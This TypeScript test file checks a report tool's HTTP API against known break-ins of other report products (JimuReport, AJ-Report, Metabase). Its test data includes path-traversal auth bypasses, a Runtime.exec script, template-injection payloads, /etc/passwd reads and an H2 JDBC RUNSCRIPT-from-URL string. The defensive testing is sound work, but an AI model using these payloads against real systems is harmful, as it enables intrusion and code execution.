/**
 * How report tools of other makers were broken into, as far as it was published, tried here over HTTP. `jimureport#4774` is an issue of the repository
 * jeecgboot/jimureport, CNVD-2024-15077 an entry of the Chinese national database of vulnerabilities about AJ-Report, `metabase#19450` an issue of metabase/metabase.
 */
import { request } from 'node:http'
import type { Server } from 'node:http'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ReportPage } from '../model/contract/report/reports.ts'
import { EMPTY_TEMPLATE } from '../model/reports/draft.ts'
import type { BuiltTenant } from './support/builders.ts'
import { buildTenant, unique } from './support/builders.ts'
import type { Client } from './support/client.ts'
import { QUERY_FIGURE, deviceDocument } from './support/figures.ts'
import { readDocx, readXlsx } from './support/files.ts'
import { wordsOfPdf } from './support/pdf-words.ts'
import type { TestServer } from './support/server.ts'
import { sharedServer } from './support/server.ts'
import { upload } from './support/uploads.ts'
import { send } from './support/wire.ts'

const TEMPLATES = '/api/report/template'

let server: TestServer
let tenant: BuiltTenant
let admin: Client
/** What would be asked if anything here followed an address. */
let listener: Server
let hits = 0
let address: string
beforeAll(async () => {
  server = await sharedServer()
  tenant = await buildTenant(server)
  admin = await tenant.signIn('admin')
  listener = createServer((_, answer) => {
    hits += 1
    answer.end('x')
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  address = `127.0.0.1:${(listener.address() as AddressInfo).port}`
})
afterAll(async () => {
  listener.close()
  await server.stop()
})

const named = () => ({ templateName: `report ${unique()}`, templateKind: 'other' })
const bring = (content: object) => admin.post<{ id: string }>(`${TEMPLATES}/importReportDesign`, { ...named(), content })
const withCells = (cells: object, more: object = {}) => ({ ...EMPTY_TEMPLATE, cells, ...more })

/** What answers without a session: links and codes that are kept secret, which is all they need. */
const OPEN = ['/api/report/link/openReportLink', '/api/report/link/downloadReportLink', '/api/report/verify/verifyReport']
const calls = () =>
  server.app.routeList
    .flatMap(({ method, url }) => [method].flat().map((verb) => ({ method: verb, url })))
    .filter(({ method, url }) => url.startsWith('/api/report/') && method !== 'HEAD' && method !== 'OPTIONS')

/** As it is written: `fetch` would tidy the path up. */
const raw = (method: string, path: string, headers: Record<string, string> = {}) =>
  new Promise<{ http: number; text: string }>((resolve, reject) => {
    const { hostname, port } = new URL(server.url)
    const sent = request({ hostname, port, method, path, headers, agent: false }, (answer) => {
      const parts: Buffer[] = []
      answer.on('data', (part: Buffer) => parts.push(part))
      answer.on('end', () => resolve({ http: answer.statusCode ?? 0, text: Buffer.concat(parts).toString() }))
    })
    sent.on('error', reject)
    sent.end()
  })

describe('jimureport#4774 (commands before anybody has signed in) and #4694 (files without a session)', () => {
  it('no call of reports and figures answers without a session but those of secret links', async () => {
    const all = calls()
    const urls = all.map(({ url }) => url)
    expect(urls).toEqual(expect.arrayContaining(OPEN))
    const files = ['exportReport', 'exportWordReport', 'exportPDFReport', 'exportFigure', 'downloadIssuedReport', 'downloadReportDesign']
    for (const file of files)
      expect(
        urls.some((url) => url.endsWith(`/${file}`)),
        file,
      ).toBe(true)
    for (const { method, url } of all.filter(({ url: each }) => !OPEN.includes(each)))
      for (const headers of [{}, { authorization: 'Bearer null' }]) {
        const body = method === 'GET' ? {} : { body: '{}' }
        const { http, text } = await send(server.url, method, url, { ...body, headers: { ...headers, 'content-type': 'application/json' } })
        expect([http, text.includes(tenant.canary)], `${method} ${url}`).toEqual([401, false])
      }
  })
})

describe('jimureport#2904 (a share token that nobody looks at)', () => {
  it('a session is none in an address or under other names, and tokens that were made up open nothing', async () => {
    const path = '/api/report/report/queryReportPage?report=availability'
    const { token } = admin
    expect((await send(server.url, 'GET', path, { headers: { authorization: `Bearer ${token}` } })).http).toBe(200)
    for (const query of [
      `token=${token}`,
      `access_token=${token}`,
      `shareToken=${token}`,
      'shareToken=1',
      'previousPage=xx&jmLink=YWFhfHxiYmI=',
    ])
      expect((await send(server.url, 'GET', `${path}&${query}`)).http, query).toBe(401)
    for (const name of ['x-access-token', 'jm-token', 'share-token', 'token'])
      expect((await send(server.url, 'GET', path, { headers: { [name]: token } })).http, name).toBe(401)
    for (const url of OPEN)
      for (const made of ['A'.repeat(43), '', '%', 'null', token, `' or 1=1 --`]) {
        const body = JSON.stringify({ token: made, ...(url.endsWith('downloadReportLink') ? { format: 'pdf' } : {}) })
        const { http, text } = await send(server.url, 'POST', url, { body, headers: { 'content-type': 'application/json' } })
        expect([404, 422], `${url} ${made}: ${text}`).toContain(http)
      }
  })
})

describe('CNVD-2024-15077 (scripts that check values, behind a path that a filter takes for an open one)', () => {
  it.each([
    `${TEMPLATES}/queryReportTemplate;swagger-ui/`,
    `${TEMPLATES}/queryReportTemplate;.js`,
    `${TEMPLATES}/queryReportTemplate%3bswagger-ui`,
    `/api/report/link/..;/template/queryReportTemplate`,
    `/api/report/link/../template/queryReportTemplate`,
    `/api/report/link/%2e%2e/template/queryReportTemplate`,
    `/api/report/verify/verifyReport/..%2f..%2ftemplate/queryReportTemplate`,
    `/api//report/template/queryReportTemplate`,
    `/api/report/template/queryReportTemplate/`,
    `/API/report/template/queryReportTemplate`,
  ])('%s is open to nobody', async (path) => {
    await bring(withCells({ A1: { text: tenant.canary } }))
    const { http, text } = await raw('GET', path)
    expect([400, 401, 404], text).toContain(http)
    // Nor does such a path lead anywhere else for whoever is signed in.
    expect((await raw('GET', path, { authorization: `Bearer ${admin.token}` })).text).not.toMatch(
      /"code":200,.*"(queryFigure|templateName)"/,
    )
  })

  it('a parameter has no script', async () => {
    const script = 'function verification(data){return java.lang.Runtime.getRuntime().exec("id")}'
    const document = deviceDocument({ params: [{ name: 'a', kind: 'text', validationRules: script }] })
    expect((await admin.post(QUERY_FIGURE, { document })).http).toBe(422)
    expect(await bring(withCells({}, { sets: { s: { document } } }))).toMatchObject({ http: 422, errors: [{ field: 'sets.s' }] })
  })

  it.each([
    'constructor.constructor("return 1")()',
    'eval("1")',
    'T(java.lang.Runtime).getRuntime()',
    'new Function("return 1")()',
    'this',
    'A1.constructor',
    'IMPORT("fs")',
  ])('nor is %s a formula that can be published', async (formula) => {
    const { id } = (await bring(withCells({ B2: { formula } }))).data
    expect(await admin.post(`${TEMPLATES}/publishReportTemplate`, { id, revision: 1 })).toMatchObject({
      http: 422,
      errors: [{ field: 'B2' }],
    })
  })
})

describe('jimureport#4733 (expressions of a template engine, in what is written and in what is stored)', () => {
  const EXPRESSIONS = [
    '${7*7}',
    '#{7*7}',
    '{{7*7}}',
    '{{constructor.constructor("return 7*7")()}}',
    '<#assign x=7*7>${x}',
    '#set($x=7*7)$x',
    '*{T(java.lang.Runtime)}',
    '<%= 7*7 %>',
    '<script>alert(7*7)</script>',
    '=7*7',
    '=SUM(A1)',
    '{title}',
    '{page}/{pages}',
    '{{=7*7}}',
  ]
  /** Blanks aside: a PDF may part a line into pieces. */
  const bare = (text: string) => text.replaceAll(/\s/g, '')
  let id: string

  beforeAll(async () => {
    for (const [at, expression] of EXPRESSIONS.entries())
      await server.database.asOwner((owner) =>
        owner.query(
          `insert into devices (tenant_id, id, device_code, device_name, connection, device_status) values ($1, gen_random_uuid(), $2, $3, 'push', 1)`,
          [tenant.id, `break-in-${at}`, expression],
        ),
      )
    const document = deviceDocument({ dimensions: [{ field: 'deviceCode' }, { field: 'deviceName' }] })
    const written = EXPRESSIONS.filter((text) => !/^\{(title|page)/.test(text)).map((text, at) => [`C${at + 2}`, { text, left: 'none' }])
    const content = {
      ...EMPTY_TEMPLATE,
      columns: [80, 200, 230],
      rows: EMPTY_TEMPLATE.rows.map(() => 18),
      sets: { s: { document } },
      cells: {
        A1: { field: 's.deviceCode', expand: 'down', aggregate: 'list' },
        B1: { field: 's.deviceName' },
        ...(Object.fromEntries(written) as object),
      },
    }
    const brought = await bring(content)
    expect(brought.http, JSON.stringify(brought.errors)).toBe(200)
    id = brought.data.id
    expect((await admin.post(`${TEMPLATES}/publishReportTemplate`, { id, revision: 1 })).http).toBe(200)
  })

  const file = async (call: string) => {
    const response = await fetch(`${server.url}/api/report/report/${call}?report=${id}`, {
      headers: { authorization: `Bearer ${admin.token}` },
    })
    expect(response.status, call).toBe(200)
    return Buffer.from(await response.arrayBuffer())
  }

  it.each<[string, () => Promise<string>]>([
    [
      'the preview',
      async () =>
        (await admin.get<ReportPage>('/api/report/report/queryReportPage', { report: id })).data.boxes
          .flatMap(({ lines }) => lines.map(({ text }) => text))
          .join('\n'),
    ],
    ['the PDF', async () => wordsOfPdf(await file('exportPDFReport'))],
    ['the workbook', async () => (await readXlsx(await file('exportReport'))).flat().join('\n')],
    ['the Word document', async () => (await readDocx(await file('exportWordReport'))).flat().join('\n')],
  ])('are texts in %s', async (_, read) => {
    const text = bare(await read())
    // Once as stored, and once as written, where it is no name of the report's own.
    for (const expression of EXPRESSIONS) {
      const times = text.split(bare(expression)).length - 1
      expect(times, expression).toBeGreaterThanOrEqual(/^\{(title|page)/.test(expression) ? 1 : 2)
    }
    expect(text).not.toContain('49')
  })
})

describe('jimureport#4725 (files of the server as pictures) and #4306 (sources of data by address)', () => {
  it.each([
    '../../../../etc/passwd',
    '/etc/passwd',
    'file:///etc/passwd',
    'http://{}/x.png',
    '//{}/x.png',
    'data:image/svg+xml,<svg/>',
    'jar:http://{}/!/x',
  ])('%s is no picture', async (path) => {
    const picture = path.replace('{}', address)
    expect(await bring(withCells({ A1: { picture } }))).toMatchObject({ http: 422, errors: [{ field: 'cells.A1.picture' }] })
    expect((await admin.get(`${TEMPLATES}/queryReportPicture`, { id: picture })).http).toBe(422)
  })

  it('nor is a drawing that would bring one along', async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://${address}/x"/></svg>`
    expect((await upload(server.url, admin, `${TEMPLATES}/uploadReportPicture`, Buffer.from(svg), { name: 'x.png' })).http).toBe(422)
  })

  it.each<[string, object]>([
    ['an address of a database', { dataSource: "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://{}/x.sql'" }],
    ['an address as its subject', { subject: 'jdbc:h2:mem:x' }],
    ['a driver', { driver: 'org.h2.Driver', url: 'http://{}/' }],
    ['an address of an interface', { api: 'http://{}/data.json' }],
    // metabase#19450: what narrows rows for a reader does not narrow what they ask in SQL.
    ['SQL', { sql: 'select * from users' }],
    ['a native question', { native: { query: 'select 1' } }],
    ['SQL as a measure', { measures: [{ as: 'n', sql: 'count(*)' }] }],
    ['SQL as a field', { dimensions: [{ field: '(select password_hash from users limit 1)' }] }],
  ])('%s is no document', async (_, more) => {
    const document = JSON.parse(JSON.stringify(deviceDocument(more)).replaceAll('{}', address)) as object
    expect((await admin.post(QUERY_FIGURE, { document })).http).toBe(422)
    expect(await bring(withCells({}, { sets: { s: { document } } }))).toMatchObject({ http: 422, errors: [{ field: 'sets.s' }] })
  })

  it('a set has nothing but its document', async () => {
    const set = { document: deviceDocument({}), jdbc: `jdbc:mysql://${address}/?autoDeserialize=true` }
    expect((await bring(withCells({}, { sets: { s: set } }))).http).toBe(422)
  })

  it('nothing was asked of another server for any of it', () => expect(hits).toBe(0))
})
